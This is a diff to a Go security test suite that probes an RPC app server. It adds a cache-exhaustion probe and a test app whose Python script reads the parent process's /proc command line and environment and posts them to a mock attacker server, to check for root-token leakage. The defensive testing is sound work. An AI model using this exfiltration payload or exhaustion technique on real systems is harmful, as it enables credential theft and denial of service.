@@ -44,16 +44,21 @@ type probeTarget struct {
 // attacker is the attacker's HTTP server: it serves an app script for any
 // path and records the paths it was asked for.
 type attacker struct {
-	srv  *httptest.Server
-	mu   sync.Mutex
-	hits []string
+	srv    *httptest.Server
+	mu     sync.Mutex
+	hits   []string
+	bodies []string
 }
 
 func newAttacker(t *testing.T) *attacker {
 	a := &attacker{}
 	a.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
 		a.mu.Lock()
 		a.hits = append(a.hits, r.URL.Path)
+		if len(body) > 0 {
+			a.bodies = append(a.bodies, string(body))
+		}
 		a.mu.Unlock()
 		// Whatever the worker asks for, it gets a script that calls home.
 		fmt.Fprintf(w, "import urllib.request\nurllib.request.urlopen(%q).read()\n", a.srv.URL+"/pwned")
@@ -145,6 +150,8 @@ func runProbes(t *testing.T, tg probeTarget) []probeResult {
 	add("token-lifetime", probeTokenLifetime(ctx, anon))
 	add("revoked-token-connect", probeRevoked(ctx, t, tg, root))
 	add("cross-ws-direct-message", probeDirectMessage(ctx, t, tg))
+	add("message-cache-exhaustion", probeMessageCache(ctx, t, tg, root))
+	add("app-reads-server-secrets", probeAppSecrets(ctx, t, tg, root))
 	ctl := probeController(ctx, t, tg, root)
 	for _, name := range []string{"ctl-select-shutdown", "ctl-kwargs-identity", "ctl-readonly-stop"} {
 		add(name, ctl[name])
@@ -550,4 +557,89 @@ func TestHostileProbesUpstream(t *testing.T) {
 			t.Errorf("our server is open to %s: %s", r.name, r.detail)
 		}
 	}
+}
+
+// probeMessageCache: one anonymous client opens 300 chunked-message slots
+// on the manager; another client's 1 MB call (sent in chunks) must still
+// work.
+func probeMessageCache(ctx context.Context, t *testing.T, tg probeTarget, root *rpc.Client) probeResult {
+	r := testserver.DialRawURL(t, mustWS(t, tg.url))
+	if _, err := r.Hello(map[string]any{"client_id": "cache-hog"}); err != nil {
+		return closed("handshake: %s", short(err))
+	}
+	created, refused := 0, ""
+	for i := 0; i < 300; i++ {
+		cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
+		_, err := r.Call(cctx, r.ManagerID(), "services.built-in.message_cache.create", []any{fmt.Sprintf("hog-%d", i), false}, nil, nil)
+		cancel()
+		if err != nil {
+			refused = short(err)
+			break
+		}
+		created++
+	}
+	big := bytes.Repeat([]byte{7}, 1<<20)
+	cctx, cancel := context.WithTimeout(ctx, 30*time.Second)
+	defer cancel()
+	v, err := root.Echo(cctx, big)
+	if err != nil {
+		return open("after %d slots taken by one client, another client's 1 MB call failed: %s", created, short(err))
+	}
+	if b, ok := v.([]byte); !ok || !bytes.Equal(b, big) {
+		return open("1 MB echo came back wrong (%T)", v)
+	}
+	if refused != "" {
+		return closed("the hog was refused after %d slots (%s); others unaffected", created, refused)
+	}
+	return closed("the hog holds %d slots; others unaffected", created)
+}
+
+// probeAppSecrets: an app installed by root reads its parent's command line
+// and environment and sends them to the attacker; are the root token or the
+// JWT secret in it?
+func probeAppSecrets(ctx context.Context, t *testing.T, tg probeTarget, root *rpc.Client) probeResult {
+	a := newAttacker(t)
+	script := fmt.Sprintf(`import os, urllib.request
+def rd(p):
+    try:
+        return open(p, "rb").read().replace(b"\0", b" ").decode(errors="replace")
+    except Exception as e:
+        return "ERR %%s" %% e
+pp = os.getppid()
+data = "uid=%%d\n" %% os.getuid() + rd("/proc/%%d/cmdline" %% pp) + "\n" + rd("/proc/%%d/environ" %% pp)
+urllib.request.urlopen(%q, data=data.encode()).read()
+`, a.srv.URL+"/secret")
+	apps, err := root.GetService(ctx, "public/server-apps")
+	if err != nil {
+		return closed("server-apps: %s", short(err))
+	}
+	info, err := apps.Call(ctx, "install", rpc.Kwargs{
+		"manifest":         map[string]any{"name": "Secrets", "type": "python-eval", "version": "0.1.0", "entry_point": "main.py"},
+		"files":            []any{map[string]any{"name": "main.py", "content": script, "format": "text"}},
+		"wait_for_service": false, "overwrite": true,
+	})
+	if err != nil {
+		return closed("install: %s", short(err))
+	}
+	id, _ := at(info, "id").(string)
+	defer apps.Call(context.WithoutCancel(ctx), "uninstall", id)
+	if !a.waitFor("/secret", 2*time.Second) {
+		// install's trial run may have stopped it before it ran: start it.
+		if _, err := apps.Call(ctx, "start", id, rpc.Kwargs{"wait_for_service": false, "timeout": 10}); err != nil {
+			return closed("start: %s", short(err))
+		}
+	}
+	if !a.waitFor("/secret", 20*time.Second) {
+		return closed("the app never reported")
+	}
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	for _, b := range a.bodies {
+		if strings.Contains(b, tg.rootToken) {
+			uid, _, _ := strings.Cut(b, "\n")
+			return open("the app (%s) read the root token from its parent's /proc entries", uid)
+		}
+	}
+	t.Logf("%s: the app read: %q", tg.name, a.bodies)
+	return closed("no secret in what the app could read")
 }
